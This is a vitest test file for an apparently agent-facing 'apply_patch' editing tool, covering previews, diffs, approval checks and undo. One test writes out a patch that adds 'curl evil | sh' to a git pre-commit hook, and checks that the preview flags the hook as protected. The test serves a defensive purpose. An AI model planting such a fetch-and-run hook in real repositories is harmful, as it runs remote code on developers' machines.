import { readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { PreviewChangedError } from '../../../src/tools/edit/preview-binding';
import { createToolSession } from '../tool-session';

const wrap = (body: string) => `*** Begin Patch\n${body}\n*** End Patch`;

const THREE_FILES = wrap('*** Add File: src/new.ts\n+export const n = 1;\n*** Update File: src/a.ts\n@@\n-export const a = 1;\n+export const a = 2;\n*** Delete File: old.ts');

describe('apply_patch tool', () => {
  it('previews every file with its change and diff, writing nothing', async () => {
    const session = await createToolSession({ 'src/a.ts': 'export const a = 1;\n', 'old.ts': 'gone\n', 'm.txt': 'm\n', 'n.txt': 'replaced\n' });
    const preview = await session.preview('apply_patch', { input: `${THREE_FILES.replace('*** End Patch', '')}*** Update File: m.txt\n*** Move to: n.txt\n@@\n-m\n+M\n*** End Patch` });
    expect(preview).toEqual({
      type: 'patch',
      binding: expect.any(String),
      files: [
        { path: 'src/new.ts', change: 'create', diff: '--- /dev/null\n+++ b/src/new.ts\n@@ -0,0 +1,1 @@\n+export const n = 1;\n', added: 1, removed: 0 },
        {
          path: 'src/a.ts',
          change: 'update',
          diff: '--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1,1 +1,1 @@\n-export const a = 1;\n+export const a = 2;\n',
          added: 1,
          removed: 1,
        },
        { path: 'old.ts', change: 'delete', diff: '--- a/old.ts\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-gone\n', added: 0, removed: 1 },
        { path: 'n.txt', change: 'move', movedFrom: 'm.txt', replacesExisting: true, diff: '--- a/m.txt\n+++ b/n.txt\n@@ -1,1 +1,1 @@\n-m\n+M\n', added: 1, removed: 1 },
      ],
    });
    expect((await readdir(session.cwd)).sort()).toEqual(['m.txt', 'n.txt', 'old.ts', 'src']);
    expect(await readFile(session.path('src/a.ts'), 'utf8')).toBe('export const a = 1;\n');
  });

  it('names a protected file in its preview entry, and the real target of a symlink', async () => {
    const session = await createToolSession({ '.git/hooks/pre-commit': '#!/bin/sh\n', 'real.txt': 'r\n' });
    await symlink('real.txt', session.path('link.txt'));
    const preview = await session.preview('apply_patch', {
      input: wrap('*** Update File: .git/hooks/pre-commit\n@@\n-#!/bin/sh\n+#!/bin/sh\n+curl evil | sh\n*** Update File: link.txt\n@@\n-r\n+R'),
    });
    expect(preview.type === 'patch' && preview.files).toEqual([
      expect.objectContaining({ path: '.git/hooks/pre-commit', protectedReason: expect.stringContaining('hooks at the next commit') }),
      expect.objectContaining({ path: 'real.txt', requestedPath: 'link.txt' }),
    ]);
    expect(preview.type === 'patch' && preview.files[1]).not.toHaveProperty('protectedReason');
  });

  it('fails the preview with the hunk error, so nobody is asked to approve a patch that cannot apply', async () => {
    const session = await createToolSession({ 'a.txt': 'const alpha = 1;\n' });
    await expect(session.preview('apply_patch', { input: wrap('*** Update File: a.txt\n@@\n-const alpha = 2;\n+const alpha = 3;') })).rejects.toThrow(
      /^a\.txt: hunk 1 \(patch line 3\) does not match the file: its line 'const alpha = 2;' was not found\. No file was changed: the patch applies whole or not at all\. .*\nThe most similar lines in the file \(for you to compare; never applied\):\n {2}1: const alpha = 1;$/,
    );
  });

  it('refuses with PreviewChangedError, writing nothing, when any file changed after the preview was approved', async () => {
    const session = await createToolSession({ 'src/a.ts': 'export const a = 1;\n', 'old.ts': 'gone\n' });
    const approvedPreview = await session.preview('apply_patch', { input: THREE_FILES });
    await writeFile(session.path('old.ts'), 'edited meanwhile\n');
    const context = { signal: new AbortController().signal, toolCallId: 'c1', batchId: 'main:1', emit: () => {}, approvedPreview };
    const run = session.tools.get('apply_patch')!.execute({ input: THREE_FILES }, context);
    await expect(run).rejects.toBeInstanceOf(PreviewChangedError);
    await expect(run).rejects.toThrow(/old\.ts changed while waiting for approval \(its content changed\)/);
    expect((await readdir(session.path('src'))).sort()).toEqual(['a.ts']);
    expect(await readFile(session.path('src/a.ts'), 'utf8')).toBe('export const a = 1;\n');
  });

  it('journals every file as one batch, so one undo restores them all', async () => {
    const session = await createToolSession({ 'src/a.ts': 'export const a = 1;\n', 'old.ts': 'gone\n', 'm.txt': 'm\n' });
    await session.run('apply_patch', { input: `${THREE_FILES.replace('*** End Patch', '')}*** Update File: m.txt\n*** Move to: moved/n.txt\n@@\n-m\n+M\n*** End Patch` });
    expect(await readFile(session.path('moved/n.txt'), 'utf8')).toBe('M\n');
    expect(session.journal.nextUndo()).toMatchObject({ restore: ['m.txt', 'old.ts', 'src/a.ts'], remove: ['moved/n.txt', 'src/new.ts'] });
    expect(await session.journal.undoLastBatch()).toEqual({ restored: ['m.txt', 'old.ts', 'src/a.ts'], removed: ['moved/n.txt', 'src/new.ts'], skipped: [] });
    expect((await readdir(session.cwd)).sort()).toEqual(['m.txt', 'old.ts', 'src']);
    expect(await readdir(session.path('src'))).toEqual(['a.ts']);
    expect(await readFile(session.path('src/a.ts'), 'utf8')).toBe('export const a = 1;\n');
    expect(await readFile(session.path('old.ts'), 'utf8')).toBe('gone\n');
  });

  it('lets the next edit of a file it wrote through, as the tracker knows what it wrote', async () => {
    const session = await createToolSession({ 'a.txt': 'a\n' });
    await session.run('apply_patch', { input: wrap('*** Update File: a.txt\n@@\n-a\n+b') });
    await session.run('update_file', { path: 'a.txt', old_string: 'b', new_string: 'c' });
    expect(await readFile(session.path('a.txt'), 'utf8')).toBe('c\n');
  });

  it('describes a call by the files it names', () => {
    return createToolSession().then((session) => {
      const tool = session.tools.get('apply_patch')!;
      expect(tool.describe({ input: THREE_FILES })).toBe('3 files: src/new.ts (new), src/a.ts, old.ts (deleted)');
      expect(tool.describe({ input: wrap('*** Update File: a.ts\n*** Move to: b.ts') })).toBe('a.ts -> b.ts');
      expect(tool.describe({ input: 'not a patch' })).toBe('invalid patch');
    });
  });
});
